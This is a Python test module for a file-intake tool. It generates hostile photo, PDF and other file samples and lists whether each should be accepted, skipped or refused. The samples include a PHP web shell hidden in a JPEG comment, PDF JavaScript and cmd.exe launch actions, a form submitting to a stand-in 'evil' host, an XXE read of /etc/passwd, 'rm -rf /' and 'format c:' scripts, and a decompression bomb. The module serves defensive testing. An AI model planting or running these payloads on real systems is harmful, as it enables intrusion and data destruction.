"""Hostile photos, PDFs and everything that is neither: safety.md U4, U5, D2. The verdict is by content; not one of these has a telling name."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from tests.hostile import making as m
from tests.hostile.cases import Case, case

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def everything() -> Iterator[Case]:
    yield from photos()
    yield from pdfs()
    yield from left_out()
    yield from refused()


def photos() -> Iterator[Case]:
    yield case("photo-jpeg", m.photo(), "photo")
    yield case("photo-png", m.photo("PNG"), "photo")
    yield case("photo-heic", m.heic(), "photo")
    for orientation in range(2, 9):
        yield case(f"photo-turned-{orientation}", m.photo(exif=m.exif(orientation)), "photo")
    yield case("photo-with-place", m.photo(exif=m.exif(1, place=True)), "photo")
    yield case("photo-with-exif-garbage", m.photo(exif=b"Exif\0\0" + bytes(range(256))), "photo")
    yield case("photo-with-endless-exif", m.photo(exif=b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + bytes(4000)), "photo")
    yield case("photo-grey", m.photo(mode="L"), "photo")
    yield case("photo-see-through", m.photo("PNG", mode="RGBA"), "photo")
    yield case("photo-palette", m.photo("PNG", mode="P"), "photo")
    yield case("photo-one-bit", m.photo("PNG", mode="1"), "photo")
    yield case("photo-cmyk", m.photo(mode="CMYK"), "photo")
    yield case("photo-progressive", m.photo(progressive=True), "photo")
    yield case("photo-one-pixel", m.photo("PNG", size=(1, 1)), "photo")
    yield case("photo-of-an-odd-size", m.photo(size=(17, 1)), "photo")
    yield case("photo-and-zip", m.photo() + m.zipped({"evil.exe": b"MZ"}), "photo")
    yield case("photo-and-script", m.photo() + b"<script>alert(1)</script>", "photo")
    yield case("photo-with-script-in-its-comment", m.photo(comment=b"<?php system($_GET[0]); ?>"), "photo")
    yield case("photo-cut", m.photo(size=(640, 480))[:3000], "refused:picture-damaged")
    yield case("photo-png-cut", m.photo("PNG", size=(64, 64))[:-40], "refused:picture-damaged")
    yield case("photo-head-only", b"\xff\xd8\xff\xe0", "refused:picture-damaged")
    yield case("photo-png-head-only", b"\x89PNG\r\n\x1a\n", "refused:picture-damaged")
    yield case("photo-heic-head-only", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "refused:picture-damaged")
    yield case("photo-flood-png", _flood(20_000, 20_000), "refused:picture-too-large")
    yield case("photo-flood-png-below-the-limit", _flood(9_400, 9_400), "refused:picture-too-large")
    yield case("photo-flood-jpeg", m.resized(m.photo(), 65_000, 65_000), "refused:picture-too-large")
    yield case("photo-claims-89-mpx-and-has-none", m.resized(m.photo(), 9_400, 9_400), "refused:picture-damaged")
    yield case("photo-png-bomb-in-text", _png_text(80_000_000), "refused:picture-damaged")
    yield case("photo-png-of-zero", _png(0, 10), "refused:picture-damaged")
    yield case("photo-png-crc", m.photo("PNG")[:30] + b"\0\0\0\0" + m.photo("PNG")[34:], "refused:picture-damaged")
    yield case("photo-jpeg-that-is-text", b"\xff\xd8\xff" + b"hello " * 100, "refused:picture-damaged")


def pdfs() -> Iterator[Case]:
    act = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    yield case("pdf", m.pdf(), "pdf")
    yield case("pdf-opens-with-javascript", m.pdf(act, catalog=b"/OpenAction 4 0 R"), "pdf")
    yield case("pdf-names-javascript", m.pdf(act, catalog=b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>"), "pdf")
    yield case("pdf-launches", m.pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"), "pdf")
    yield case("pdf-page-acts", m.pdf(act, page=b"/AA << /O 4 0 R >>"), "pdf")
    yield case("pdf-annotation-acts", m.pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil/) >> >>", page=b"/Annots [4 0 R]"), "pdf")
    yield case("pdf-embeds", m.pdf(b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream", catalog=b"/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>"), "pdf")
    yield case("pdf-form-submits", m.pdf(b"<< /S /SubmitForm /F (http://evil/) >>", catalog=b"/AcroForm << /XFA (x) /Fields [] >> /AA << /WC 4 0 R >>"), "pdf")
    yield case("pdf-rich-media", m.pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>", page=b"/Annots [4 0 R]"), "pdf")
    yield case("pdf-goes-elsewhere", m.pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>", catalog=b"/OpenAction 4 0 R"), "pdf")
    yield case("pdf-movie", m.pdf(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (x) >> >>", page=b"/Annots [4 0 R]"), "pdf")
    yield case("pdf-and-zip", m.pdf() + m.zipped({"evil.exe": b"MZ"}), "pdf")
    yield case("pdf-and-script", m.pdf() + b"<script>alert(1)</script>", "pdf")
    yield case("pdf-locked", m.locked_pdf(), "refused:locked")
    yield case("pdf-head-only", b"%PDF-1.7\n", "refused:pdf-damaged")
    yield case("pdf-garbage", b"%PDF-1.7\n" + bytes(range(256)) * 8, "refused:pdf-damaged")
    yield case("pdf-no-pages", m.pdf()[:60] + b"\n%%EOF", "refused:pdf-damaged")
    yield case("pdf-2001-pages", m.many_pages(2_001), "refused:pdf-too-large")
    yield case("pdf-pages-in-a-circle", m.pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "refused:pdf-damaged")
    yield case("pdf-nested-arrays", m.pdf(b"[" * 3000 + b"]" * 3000), "pdf")
    yield case("pdf-html-inside-out", b"<html>" + m.pdf(), "skipped:web-page")


def left_out() -> Iterator[Case]:
    """What lies on a disc beside its images: listed, never kept."""
    for name, content, reason in (
        ("pe", b"MZ\x90\0" + bytes(200), "program"), ("elf", b"\x7fELF\2\1\1" + bytes(200), "program"), ("macho", b"\xcf\xfa\xed\xfe" + bytes(200), "program"),
        ("fat-macho", b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(200), "program"), ("shell", b"#!/bin/sh\nrm -rf /\n", "program"), ("autorun", b"[autorun]\r\nopen=RUN.EXE\r\n", "program"),
        ("autorun-utf16", "[autorun]\r\nopen=RUN.EXE".encode("utf-16"), "program"), ("batch", b"@echo off\r\nformat c:\r\n", "program"), ("cabinet", b"MSCF" + bytes(60), "program"),
        ("shortcut", b"L\0\0\0\1\x14\2\0" + bytes(60), "program"), ("wasm", b"\0asm\1\0\0\0", "program"), ("dex", b"dex\n035\0" + bytes(60), "program"),
        ("html", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "web-page"), ("html-spaces", b"\n\n   <html>", "web-page"), ("html-bom", b"\xef\xbb\xbf<html>", "web-page"),
        ("html-comment", b"<!-- x --><html>", "web-page"), ("xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "web-page"), ("php", b"<?php system('x'); ?>", "web-page"),
        ("icon", b"\0\0\1\0\1\0" + bytes(60), "viewer-part"), ("font", b"\0\1\0\0\0" + bytes(60), "viewer-part"), ("help", b"ITSF\3\0\0\0" + bytes(60), "viewer-part"), ("sqlite", b"SQLite format 3\0" + bytes(60), "viewer-part"),
        ("ds-store", b"\0\0\0\1Bud1" + bytes(60), "system-file"), ("apple-double", b"\0\x05\x16\x07" + bytes(60), "system-file"), ("readme", b"Read me first.\r\n", "text"), ("readme-latin", "Bitte zuerst lesen: Gerät\n".encode("latin-1"), "text"),
        ("javascript", b"function f() { return eval('1') }\n", "text"), ("style", b"body { color: red }\n", "text"), ("settings", b"[viewer]\nx=1\n", "text"),
    ):  # fmt: skip
        yield case(f"left-out-{name}", content, f"skipped:{reason}")


def refused() -> Iterator[Case]:
    for name, content, reason in (
        ("empty", b"", "empty"), ("one-byte", b"\0", "unknown"), ("zeros", bytes(5000), "unknown"), ("noise", bytes((number * 131 + 7) % 251 for number in range(5000)), "unknown"),
        ("eicar", EICAR, "malware"), ("eicar-behind-text", b"hello\n" * 20 + EICAR, "malware"), ("word-97", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office"), ("rtf", b"{\\rtf1 {\\object\\objocx}}", "office"),
        ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), "other-archive"), ("rar", b"Rar!\x1a\7\1\0" + bytes(60), "other-archive"), ("gzip", b"\x1f\x8b\x08" + bytes(60), "other-archive"), ("bzip2", b"BZh9" + bytes(60), "other-archive"),
        ("xz", b"\xfd7zXZ\0" + bytes(60), "other-archive"), ("zstd", b"\x28\xb5\x2f\xfd" + bytes(60), "other-archive"), ("tar", bytes(257) + b"ustar\x0000" + bytes(300), "other-archive"), ("disc-image", bytes(32_769) + b"CD001" + bytes(3000), "other-archive"),
        ("tiff", b"II*\0\x08\0\0\0" + bytes(60), "other-picture"), ("big-tiff", b"MM\0+" + bytes(60), "other-picture"), ("gif", b"GIF89a" + bytes(60), "other-picture"), ("bmp", b"BM" + bytes(60), "other-picture"), ("jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(60), "other-picture"),
        ("j2c", b"\xff\x4f\xff\x51" + bytes(60), "other-picture"), ("webp", b"RIFF\0\0\0\0WEBP" + bytes(60), "other-picture"), ("avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + bytes(60), "other-picture"), ("psd", b"8BPS" + bytes(60), "other-picture"),
        ("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "other-picture"), ("svg-in-xml", b"<?xml version='1.0'?><svg onload='alert(1)'/>", "other-picture"),
        ("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0isom" + bytes(60), "video"), ("quicktime", b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(60), "video"), ("avi", b"RIFF\0\0\0\0AVI " + bytes(60), "video"), ("mkv", b"\x1aE\xdf\xa3" + bytes(60), "video"),
        ("mp3", b"ID3\3" + bytes(60), "video"), ("mpeg", b"\0\0\1\xba" + bytes(60), "video"), ("postscript", b"%!PS-Adobe-3.0\n", "other-document"), ("dwg", b"AC1027" + bytes(60), "other-document"),
        ("nifti-like", struct.pack("<i", 348) + bytes(400), "unknown"), ("pickle", b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x02os" + bytes(20), "unknown"),
    ):  # fmt: skip
        yield case(f"refused-{name}", content, f"refused:{reason}")


def _png(width: int, height: int, *chunks: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + b"".join(chunk(one[:4], one[4:]) for one in chunks) + chunk(b"IEND", b"")


def _flood(width: int, height: int) -> bytes:
    squeeze = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    return _png(width, height, b"IDAT" + b"".join(squeeze.compress(row) for _ in range(height // 10)) + squeeze.flush())


def _png_text(size: int) -> bytes:
    return _png(4, 4, b"zTXtx\0\0" + zlib.compress(b"A" * size, 9), b"IDAT" + zlib.compress((b"\0" + bytes(12)) * 4))


